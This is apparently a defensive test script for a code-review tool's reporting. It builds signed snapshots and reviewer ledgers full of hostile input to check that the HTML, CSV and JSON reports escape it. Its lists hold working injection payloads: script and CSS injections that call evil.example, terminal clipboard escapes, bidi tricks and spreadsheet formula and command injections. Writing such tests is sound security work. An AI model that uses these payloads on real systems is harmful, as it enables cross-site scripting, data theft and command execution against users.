#!/usr/bin/env python3
"""atk14: a hostile case for the issue-14 report, built through the real writers.

    PYTHONPATH=. .venv/bin/python scripts/attack/atk14_site.py /tmp/atk14-site

A hostile vendor signs a snapshot whose names and name/version carry markup that
closes a script or a style, attribute breakers, bidi overrides, ESC and OSC 52,
a newline, bytes that are not UTF-8, a 255-byte component, a 60-level path and
spreadsheet formulas. Hostile reviewers (names, organisation, workstation) record
sealed sessions (the real Ledger writer, real keys) that open and view those
files and search, quick open, note, alert and block with hostile text. Writes
`snap.snapshot`, `vendor.pub`, `ledgers/` and the report in every format plus
`--with-source` HTML under the given directory; prints their sizes.
"""

# ruff: noqa: E402

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from click.testing import CliRunner

from cleanroom.cli import main
from cleanroom.ledger.clock import SteppingClock
from cleanroom.ledger.events import Reviewer, SnapshotRef
from cleanroom.ledger.keys import Certificate, Role, raw_public, write_public_key
from cleanroom.ledger.writer import Ledger, Workstation
from cleanroom.session.events import (
    Alert,
    Blocked,
    FileOpen,
    Find,
    Note,
    QuickOpen,
    Search,
    View,
)
from cleanroom.snapshot.create import create_snapshot
from cleanroom.snapshot.store import Snapshot
from tests.ledgerkit import CERT_END, CERT_START, SeededKeys, seeded_key

# Text built to break an HTML page, a CSS block, an attribute, a terminal, a reader
# (bidi) or a spreadsheet. Each is used as a query, a note title, an alert detail...
TEXTS = [
    '</script><script>fetch("http://evil.example/s")</script>',
    "</style><style>body{background:url(http://evil.example/c)}</style>",
    '"><img src="http://evil.example/i" onerror="alert(1)">',
    '\'><svg onload=alert(1)><a href="javascript:alert(1)">x</a>',
    "<!-- --><![CDATA[ ]]>&lt;script&gt;&#x3c;b&#62;",
    "\u202eevil\u202c \u2066iso\u2069 zero\u200bwidth \ufeffbom",
    "\x1b]52;c;SGk=\x07\x1b[2J\x9b31m",
    "nul\x00byte",
    '=HYPERLINK("http://evil.example/h","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
    "a|=1+1",
]
NAMES = [
    b"</script><script>alert(1)</script>.c",
    b"</style><style>*{background:url(http://evil.example/n)}.c",
    b'"><img src=x onerror=alert(1)>.c',
    b"\xe2\x80\xaecod.exe\x1b]52;c;SGk=\x07.c",
    b"new\nline.c",
    b"bad\xff\xfebytes.c",
    b'=HYPERLINK("http://evil.example").c',
    b"-cmd|calc.c",
    b"W" * 255,
]
DEEP = b"/".join([b"d%02d" % i for i in range(60)] + [b"deep.c"])
LINES = 50


def build_tree(src: Path) -> list[bytes]:
    paths = [b"ok/plain.c", *(b"hostile/" + n for n in NAMES), DEEP]
    for i, p in enumerate(paths):
        full = os.path.join(os.fsencode(src), p)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(b"".join(b"int v%d_%d; /* </script><b> */\n" % (i, k) for k in range(LINES)))
    return paths


def session(out: Path, vendor, snap: Snapshot, n: int, who: str, org: str, ws: str, paths):
    ws_key = seeded_key(f"atk14/ws/{n}")
    cert = Certificate.issue(vendor, ws, ws_key.public_key(), CERT_START, CERT_END)
    reviewer = seeded_key(f"atk14/reviewer/{n}")
    ledger = Ledger.create(
        out, Workstation(ws_key, cert), Reviewer(who, org, raw_public(reviewer).hex()),
        SnapshotRef(snap.id, snap.manifest.root), None,
        clock=SteppingClock(wall_us=1_790_000_000_000_000 + n * 10**9),
        keygen=SeededKeys(f"atk14/entries/{n}"),
        ledger_id=hashlib.sha256(f"atk14/{n}".encode()).digest()[:16],
    )  # fmt: skip
    for p in paths:
        blob = snap.stat(p).blob.hex()
        ledger.append(FileOpen(p, blob, LINES * 40, LINES, {}))
        ledger.append(View(p, blob, 1, 30, 0, 100))
        ledger.append(View(p, blob, 21, LINES, 0, 100))
    for t in TEXTS:
        ledger.append(Search(t, False, False, [t[:20]], [], 3, "00" * 32))
        ledger.append(QuickOpen(t, 1))
        ledger.append(Alert("media", t, "record", 1))
        ledger.append(Blocked("copy_text", t))
        p = paths[0]
        blob = snap.stat(p).blob.hex()
        ledger.append(Find(p, blob, t, False, 1))
        ledger.append(Note(p, hashlib.md5(f"{n}{t}".encode()).hexdigest(), 1, "finding", "high", t,
                           t, blob, 1, 2))  # fmt: skip
    ledger.seal("reviewer", reviewer)
    ledger.close()
    return ledger.path


def main_(root: Path) -> None:
    root.mkdir(parents=True, exist_ok=True)
    vendor = seeded_key("atk14/vendor")
    trust = root / "vendor.pub"
    if not trust.exists():
        write_public_key(trust, vendor.public_key(), role=Role.VENDOR_ROOT)
    src = root / "src"
    paths = build_tree(src)
    snap_path = root / "snap.snapshot"
    if not snap_path.exists():
        create_snapshot(src, snap_path, vendor, "acme</h3><script>x</script>" + "N" * 150,
                        '2.0"><img src=x>', created=1_780_000_000)  # fmt: skip
    ledgers = root / "ledgers"
    ledgers.mkdir(exist_ok=True)
    with Snapshot.open(snap_path, [raw_public(vendor)]) as snap:
        paths = [f.path for f in snap.files() if f.blob is not None]
        people = [
            ("</script><script>alert(1)</script>\u202eReviewer", '"><img src=x>', "ws-01"),
            ('=HYPERLINK("http://evil.example","x")', "@org;=1+1", '</title><b>ws"02'),
            ("W" * 5000, "\u202e" * 3000, "ws-" + "L" * 2000),
        ]
        if not any(ledgers.iterdir()):
            for n, (who, org, ws) in enumerate(people):
                session(ledgers, vendor, snap, n, who, org, ws, paths)
    runner = CliRunner()
    for ext, extra in [("html", []), ("csv", []), ("jsonl", []), ("json", []),
                       ("src.html", ["--with-source"])]:  # fmt: skip
        out = root / f"report.{ext}"
        r = runner.invoke(main, ["report", str(ledgers), "--snapshot", str(snap_path),
                                 "--trust", str(trust), "-o", str(out), *extra],
                          catch_exceptions=False)  # fmt: skip
        print(f"report.{ext}: exit {r.exit_code}, {out.stat().st_size:,} bytes")
        if r.exit_code not in (0,):
            print(r.output[:3000])


if __name__ == "__main__":
    main_(Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/atk14-site"))
